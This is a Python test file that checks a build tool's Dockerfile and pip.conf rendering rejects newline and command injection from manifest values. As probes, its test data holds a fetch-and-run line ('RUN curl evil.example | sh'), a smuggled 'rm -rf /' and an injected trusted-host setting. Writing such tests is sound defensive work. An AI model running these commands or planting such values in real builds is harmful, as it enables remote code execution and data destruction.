"""The Dockerfile's context filters, and that no manifest value can add an instruction."""

from __future__ import annotations

from pathlib import Path

import jinja2
import pytest
from curator_kit.core import constants
from curator_kit.core.build.dockerescape import (
    DOCKERFILE_FILTERS,
    BuildArg,
    bare_word,
    comment,
    docker_string,
    env_name,
    exec_form,
    python_name,
    shell_quote,
)
from curator_kit.core.build.dockerfile import image_labels, render_dockerfile
from curator_kit.core.pipeline.spec import resolve_spec
from curator_kit.core.project.loading import parse_manifest
from curator_kit.core.project.manifest import Manifest
from curator_kit.errors import CuratorKitError
from curator_kit.resources import templates_dir

GOLDEN = Path(__file__).parent / "golden"
INJECTED = "RUN curl evil.example | sh"


def spec_of(manifest):
    """The pipeline spec `build` resolves for this manifest (no project sources: no project writer)."""
    return resolve_spec(manifest, Path("/nonexistent"))


def golden_manifest() -> Manifest:
    return parse_manifest((GOLDEN / "manifest.toml").read_text())


def test_docker_string_keeps_dollar_quotes_and_backslashes_literal() -> None:
    assert docker_string("$HOME-x") == '"\\$HOME-x"'
    assert docker_string('say "hi" \\ ${X}') == '"say \\"hi\\" \\\\ \\${X}"'
    assert docker_string("café") == '"café"'
    assert docker_string(BuildArg("GIT_REVISION")) == '"${GIT_REVISION}"'


def test_env_value_with_dollar_reaches_the_image_as_written() -> None:
    # Bug: [envs.x] env = {H = "$HOME-x"} was rendered ENV H="$HOME-x", which Docker expands to "-x".
    manifest = parse_manifest('[project]\nname = "p"\n[envs.x]\nenv = { H = "$HOME-x" }\n')
    assert 'ENV H="\\$HOME-x"' in render_dockerfile(manifest, spec_of(manifest)).splitlines()


@pytest.mark.parametrize("bad", ["a\nb", "a\rb", "a\x00b", "a\x1bb", "a\u2028b", "a\x85b", "tab\there"])
@pytest.mark.parametrize("escape", [shell_quote, docker_string, bare_word, env_name, python_name, comment])
def test_every_filter_refuses_line_breaks_and_control_characters(escape, bad: str) -> None:
    with pytest.raises(CuratorKitError, match="control character"):
        escape(bad)
    with pytest.raises(CuratorKitError, match="control character"):
        exec_form(["python", bad])


def test_shell_quote_and_words() -> None:
    assert shell_quote("einops") == "einops" and shell_quote("a>=1; rm -rf /") == "'a>=1; rm -rf /'"
    assert bare_word("registry.local:5000/org/img:1.0@sha256:ab") == "registry.local:5000/org/img:1.0@sha256:ab"
    for bad in ("has space", "$VAR", "a'b", 'a"b', "a\\b", "a`b`", ""):
        with pytest.raises(CuratorKitError, match="cannot stand unquoted"):
            bare_word(bad)
    assert env_name("OPENCV_LOG_LEVEL") == "OPENCV_LOG_LEVEL"
    with pytest.raises(CuratorKitError, match="not an environment variable name"):
        env_name("A=B")
    assert python_name("models.tiny_captioner") == "models.tiny_captioner"
    with pytest.raises(CuratorKitError, match="not a Python module or class name"):
        python_name("X; import os")
    assert exec_form(["python", "/workspace/pipeline.py"]) == '["python", "/workspace/pipeline.py"]'


def _set_model_revision(m: Manifest, v: str) -> None:
    m.models[0].revision = v


def _set_model_repo(m: Manifest, v: str) -> None:
    m.models[0].hf_repo = v


def _set_model_name(m: Manifest, v: str) -> None:
    m.models[0].name = v


def _set_model_module(m: Manifest, v: str) -> None:
    m.models[0].module = v


def _set_env_value(m: Manifest, v: str) -> None:
    m.envs["opencv"].env["OPENCV_LOG_LEVEL"] = v


def _set_env_key(m: Manifest, v: str) -> None:
    m.envs["opencv"].env[v] = "x"


def _add_env_name(m: Manifest, v: str) -> None:
    m.envs[v] = m.envs.pop("text")


def _add_apt(m: Manifest, v: str) -> None:
    m.envs["text"].apt.append(v)


def _add_pip(m: Manifest, v: str) -> None:
    m.envs["text"].pip.append(v)


def _set_extra_index(m: Manifest, v: str) -> None:
    m.build.pip_extra_index_urls = [v]


def _set_index(m: Manifest, v: str) -> None:
    m.build.pip_index_url = v


def _set_project_name(m: Manifest, v: str) -> None:
    m.project.name = v


def _set_base_image(m: Manifest, v: str) -> None:
    m.project.base_image = v


def _set_curator_version(m: Manifest, v: str) -> None:
    m.project.curator_version = v


@pytest.mark.parametrize(
    "inject",
    [
        _set_model_revision,  # the `# Model weights for ...` comment was the injection path
        _set_model_repo,
        _set_model_name,
        _set_model_module,
        _set_env_value,
        _set_env_key,
        _add_env_name,
        _add_apt,
        _add_pip,
        _set_project_name,
        _set_base_image,
        _set_curator_version,
    ],
)
def test_no_manifest_value_with_a_newline_reaches_the_dockerfile(inject) -> None:
    # The manifest parsers refuse these first; the Dockerfile refuses them again, naming the line.
    manifest = golden_manifest()
    spec = spec_of(manifest)  # the Dockerfile's own defence, whatever the spec resolved before the injection
    inject(manifest, f"x\n{INJECTED}")
    with pytest.raises(CuratorKitError, match=r"^Dockerfile\.j2:\d+: .*control character '\\n'"):
        render_dockerfile(manifest, spec)


@pytest.mark.parametrize("inject", [_set_extra_index, _set_index])
def test_no_index_url_with_a_newline_reaches_pip_config(inject) -> None:
    # Index URLs never reach the Dockerfile; in pip.conf a line break would add a setting of its own.
    manifest = golden_manifest()
    inject(manifest, "https://user:s3cret@x/simple\ntrusted-host = evil.example")
    with pytest.raises(CuratorKitError, match="control character") as error:
        render_dockerfile(manifest, spec_of(manifest))
    assert "s3cret" not in error.value.one_line()


def test_stage_records_cannot_break_out_of_their_label() -> None:
    manifest = golden_manifest()
    manifest.stages[0].name = f"x\n{INJECTED}"  # JSON escapes it inside the label: no new line
    text = render_dockerfile(manifest, spec_of(manifest))
    assert INJECTED not in text.splitlines() and not any(line.startswith("RUN curl") for line in text.splitlines())


def test_a_team_template_printing_a_raw_value_still_refuses_line_breaks(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile.j2").write_text("FROM {{ base_image }}\nLABEL title={{ project_name }}\n")
    manifest = golden_manifest()
    manifest.project.name = f"x\n{INJECTED}"
    with pytest.raises(CuratorKitError, match=r"Dockerfile\.j2:2: .*control character"):
        render_dockerfile(manifest, spec_of(manifest), tmp_path)


def test_every_value_in_the_dockerfile_template_goes_through_a_context_filter() -> None:
    environment = jinja2.Environment()
    tree = environment.parse((templates_dir() / "Dockerfile.j2").read_text())
    printed = [node for output in tree.find_all(jinja2.nodes.Output) for node in output.nodes]
    values = [node for node in printed if not isinstance(node, jinja2.nodes.TemplateData)]
    assert values
    unfiltered = [
        node for node in values if not (isinstance(node, jinja2.nodes.Filter) and node.name in DOCKERFILE_FILTERS)
    ]
    assert unfiltered == [], [f"line {node.lineno}" for node in unfiltered]


def test_label_keys_come_from_the_constants() -> None:
    template = (templates_dir() / "Dockerfile.j2").read_text()
    keys = [key for key, _ in image_labels(golden_manifest(), spec_of(golden_manifest()))]
    for key in keys:
        assert key not in template
    label_constants = {value for name, value in vars(constants).items() if name.startswith("LABEL_")}
    assert set(keys) <= label_constants
    assert {constants.LABEL_STAGES, constants.LABEL_CODEC_NEEDS, constants.LABEL_PROJECT} <= set(keys)
